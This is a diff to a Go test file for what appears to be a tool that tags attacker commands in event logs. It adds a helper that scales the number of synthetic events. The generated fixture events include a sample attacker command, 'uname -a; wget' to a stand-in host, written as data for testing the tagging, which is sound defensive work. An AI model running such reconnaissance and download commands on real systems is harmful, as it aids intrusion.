@@ -210,6 +210,14 @@ func TestSameWithDaemon(t *testing.T) {
 	}
 }
 
+// busyEvents is how many keep a run busy for a while.
+func busyEvents() int {
+	if testing.Short() { // and perhaps with the race detector
+		return 15_000
+	}
+	return 60_000
+}
+
 // A run of a caller waits for its turn. An interrupt cancels it, or leaves it
 // alone, as asked.
 func TestRunInDaemonIsInterrupted(t *testing.T) {
@@ -219,7 +227,7 @@ func TestRunInDaemonIsInterrupted(t *testing.T) {
 			n.env = append(n.env, "TTPCRON_INPUT=")
 			n.serving()
 			var events strings.Builder
-			for i := range 60_000 {
+			for i := range busyEvents() {
 				fmt.Fprintf(&events, `{"source_kind":"command","time":"2026-05-04T05:49:05Z","attacker_ip":"203.0.113.7","payload":{"command_text":"uname -a; wget http://203.0.113.9/%d"}}`+"\n", i)
 			}
 			n.write("many.jsonl", events.String())
@@ -250,7 +258,7 @@ func TestRunInDaemonIsInterrupted(t *testing.T) {
 			})
 			// Nothing is lost either way: the next run goes on.
 			n.run("", "run-once", "--since-days", "3650")
-			if _, out, _ := n.run("", "tags", "--json"); strings.Count(out, "\n") != 180_000 {
+			if _, out, _ := n.run("", "tags", "--json"); strings.Count(out, "\n") != 3*busyEvents() {
 				t.Errorf("%d tags", strings.Count(out, "\n"))
 			}
 		})
@@ -281,7 +289,7 @@ func TestCheckpointWaitsForRun(t *testing.T) {
 	n.env = append(n.env, "TTPCRON_INPUT=")
 	n.serving()
 	var events strings.Builder
-	for i := range 60_000 {
+	for i := range busyEvents() {
 		fmt.Fprintf(&events, `{"source_kind":"command","time":"2026-05-04T05:49:05Z","attacker_ip":"203.0.113.7","payload":{"command_text":"uname -a; %d"}}`+"\n", i)
 	}
 	n.write("many.jsonl", events.String())
@@ -310,7 +318,7 @@ func TestDaemonStopsDuringRun(t *testing.T) {
 	n.env = append(n.env, "TTPCRON_INPUT=")
 	n.serving()
 	var events strings.Builder
-	for i := range 60_000 {
+	for i := range busyEvents() {
 		fmt.Fprintf(&events, `{"source_kind":"command","time":"2026-05-04T05:49:05Z","attacker_ip":"203.0.113.7","payload":{"command_text":"uname -a; %d"}}`+"\n", i)
 	}
 	n.write("many.jsonl", events.String())
@@ -332,7 +340,7 @@ func TestDaemonStopsDuringRun(t *testing.T) {
 		t.Errorf("exit %d: %s", code, stderr.String())
 	}
 	n.run("", "run-once", "--since-days", "3650")
-	if _, out, _ := n.run("", "tags", "--json"); strings.Count(out, "\n") != 60_000 {
+	if _, out, _ := n.run("", "tags", "--json"); strings.Count(out, "\n") != busyEvents() {
 		t.Errorf("%d tags", strings.Count(out, "\n"))
 	}
 }
